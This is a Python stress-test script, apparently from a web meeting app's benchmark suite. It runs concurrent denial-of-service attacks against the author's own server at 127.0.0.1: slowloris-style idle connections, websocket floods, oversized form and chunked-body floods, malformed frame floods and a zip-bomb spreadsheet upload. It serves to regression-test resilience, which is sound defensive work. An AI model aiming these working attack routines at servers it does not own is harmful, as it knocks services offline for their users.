"""One stranger, one participant and one organizer who do everything at once that once stopped or slowed the server.

    python -m bench.attackers PORT SECONDS SLUG CODE QUESTION PARTICIPANT-COOKIE ORGANIZER-COOKIE

Prints how each attack was answered, as JSON. For a server of one's own, at 127.0.0.1.
"""

import io
import json
import re
import socket
import sys
import threading
import time
import uuid
import zipfile
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import requests
import socketio
from openpyxl import Workbook

TABLE = ("|a" * 1_250 + "\n" + "|-" * 1_250 + "\n" + "|\n" * 2_490)[:10_000]
AGENDA = "Long\n16 June 2026\nDAY 1, June 16\nSlot 1: a\n1A. b\nCentral question: c?\n" + "".join(
    f"{number}. {' ab ba' * 3_000} {uuid.uuid4().hex}?\n" for number in range(1, 7))
HANDSHAKE = ("GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\n"
             "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
             "Cookie: {cookie}\r\n\r\n")
CHUNKED = b"POST /sign-in HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n"
TEXT_BEGINS = b"\x01\x80\1\2\3\4"
NO_MESSAGES = (b"\x8a\x80\1\2\3\4" + b"\x89\x80\1\2\3\4" + b"\x00\x81\1\2\3\4a") * 2_000


@dataclass
class Attack:
    """Who attacks what, until when, and how it was answered."""

    port: int
    until: float
    slug: str
    code: str
    question: int
    participant: str
    organizer: str
    answered: dict[str, Counter[str]] = field(default_factory=dict)
    held: list[socket.socket] = field(default_factory=list)
    framed: socket.socket | None = None

    @property
    def url(self) -> str:
        """The server."""
        return f"http://127.0.0.1:{self.port}"

    def again(self, name: str, act: Callable[[], Any]) -> None:
        """Do something again and again, and count the answers."""
        counts = self.answered.setdefault(name, Counter())
        while time.monotonic() < self.until:
            try:
                counts[str(act())] += 1
            except (OSError, requests.RequestException) as problem:
                counts[type(problem).__name__] += 1
                time.sleep(0.05)

    def browser(self, cookie: str) -> tuple[requests.Session, str]:
        """A browser with a person's cookie, and the token of its forms."""
        session = requests.Session()
        session.cookies.set(*cookie.partition("=")[::2], domain="127.0.0.1", path="/")
        token = re.findall(r'name="csrf_token" value="([^"]+)"', session.get(f"{self.url}/account", timeout=30).text)
        return session, token[0]

    def hold(self, cookie: str, *, most: int) -> str:
        """Open a websocket and keep it."""
        raw = socket.create_connection(("127.0.0.1", self.port), timeout=5)
        raw.sendall(HANDSHAKE.format(port=self.port, cookie=cookie or "x=y").encode())
        self.held = [*self.held, raw][-most:]
        return raw.recv(100).split(b" ")[1].decode()

    def say_nothing(self) -> str:
        """Open a connection and say nothing, or never come to an end."""
        time.sleep(0.02)
        raw = socket.create_connection(("127.0.0.1", self.port), timeout=5)
        if len(self.held) % 2:
            raw.sendall(b"GET / HTTP/1.1\r\nX: ")
        self.held = [*self.held, raw][-300:]
        return "opened"

    def flood(self, path: str, body: bytes) -> int:
        """Send a form of endless fields."""
        return requests.post(self.url + path, data=body, timeout=30,
                             headers={"Content-Type": "application/x-www-form-urlencoded"}).status_code

    def chunk(self) -> str:
        """Send a body in pieces of one byte, and never say where it ends."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=5) as raw:
            raw.sendall(CHUNKED)
            try:
                for _ in range(100):
                    raw.sendall(b"1\r\na\r\n" * 10_000)
            except (BrokenPipeError, ConnectionResetError):
                time.sleep(0.02)
            return raw.recv(100).split(b" ")[1].decode()

    def flood_frames(self, cookie: str) -> str:
        """Send frames that are no messages: pongs, pings, and the parts of a text that never ends."""
        if self.framed is None:
            self.framed = socket.create_connection(("127.0.0.1", self.port), timeout=5)
            self.framed.sendall(HANDSHAKE.format(port=self.port, cookie=cookie).encode() + TEXT_BEGINS)
        try:
            self.framed.sendall(NO_MESSAGES)
        except OSError:
            self.framed.close()
            self.framed = None
            raise
        return "sent"

    def join(self, client: socketio.Client) -> Any:
        """Join, and nothing else."""
        answer = client.call("join", {"meeting": self.slug, "forum": None, "after": 0}, timeout=30)
        return answer.get("status", "ok")

    def attacks(self) -> dict[str, Callable[[], Any]]:
        """Everything, by name."""
        session, token = self.browser(self.participant)
        host, host_token = self.browser(self.organizer)
        meeting, client = f"{self.url}/meetings/{self.slug}", socketio.Client(reconnection=False)
        client.connect(self.url, headers={"Cookie": self.participant}, transports=["websocket"])
        bomb = workbook_without_end()

        def post() -> int:
            return session.post(f"{meeting}/sessions/{self.code}/responses", timeout=30, data={
                "csrf_token": token, "question_id": self.question, "key": uuid.uuid4().hex, "shown": "named",
                "text": TABLE},
                headers={"Accept": "application/json"}).status_code

        def upload() -> int:
            return host.post(f"{meeting}/people/invite", timeout=60, data={"csrf_token": host_token},
                             files={"file": ("people.xlsx", bomb)}).status_code

        def preview() -> int:
            return host.post(f"{meeting}/agenda", timeout=60, data={
                "csrf_token": host_token, "step": "preview", "text": AGENDA}).status_code
        return {
            "silent connections": self.say_nothing, "strangers' websockets": lambda: self.hold("", most=300),
            "forms of 9.9 MB": lambda: self.flood("/sign-in", b"a&" * 4_950_000),
            "forms of many fields": lambda: self.flood("/nowhere", b"a&" * 100_000),
            "one person's websockets": lambda: self.hold(self.participant, most=500),
            "chunks": self.chunk, "frames without a message": lambda: self.flood_frames(self.organizer),
            "joins": lambda: self.join(client), "tables": post,
            "searches": lambda: session.get(f"{meeting}/search?q=option", timeout=30).status_code,
            "pages": lambda: session.get(f"{meeting}/sessions/{self.code}", timeout=30).status_code,
            "workbooks": upload, "agendas": preview}

    def run(self) -> dict[str, dict[str, int]]:
        """Attack with all of them at once."""
        threads = [threading.Thread(target=self.again, args=pair, daemon=True) for pair in self.attacks().items()]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=max(1.0, self.until - time.monotonic() + 60))
        return {name: dict(counts) for name, counts in self.answered.items()}


def workbook_without_end() -> bytes:
    """A small file with a sheet of a million rows."""
    written, larger = io.BytesIO(), io.BytesIO()
    book = Workbook()
    book.active.append(["name", "email"])
    book.save(written)
    with zipfile.ZipFile(written) as old, zipfile.ZipFile(larger, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            content = old.read(part)
            if part.filename.endswith("sheet1.xml"):
                content = content.replace(b"</sheetData>", b'<row><c t="str"><v>x</v></c></row>' * 700_000
                                          + b"</sheetData>")
            new.writestr(part, content)
    return larger.getvalue()


def main(arguments: list[str]) -> None:
    """Attack, and print how it was answered."""
    port, seconds, slug, code, question, participant, organizer = arguments
    print(json.dumps(Attack(int(port), time.monotonic() + float(seconds), slug, code, int(question), participant,
                            organizer).run()), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
